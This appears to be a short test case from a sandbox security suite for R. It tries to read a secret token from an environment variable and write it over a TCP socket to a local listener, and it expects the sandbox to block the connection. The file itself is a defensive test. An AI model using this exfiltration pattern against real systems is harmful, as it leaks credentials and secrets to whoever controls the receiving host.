# category: network
# summary: send the supervisor's secret environment variable to a host listener
# expect: outcome=error
# expect-error-contains: cannot open
# targets: listener:tcp, secret:env
# calibrate: yes
# calibrate-expect-stdout-contains: sent
# calibrate-expect-received: tcp

con <- socketConnection("127.0.0.1", {{TCP_PORT}}, blocking = TRUE, timeout = 3)
writeLines(paste("token:", Sys.getenv("RSANDBOX_ATTACK_TOKEN")), con)
close(con)
cat("sent\n")
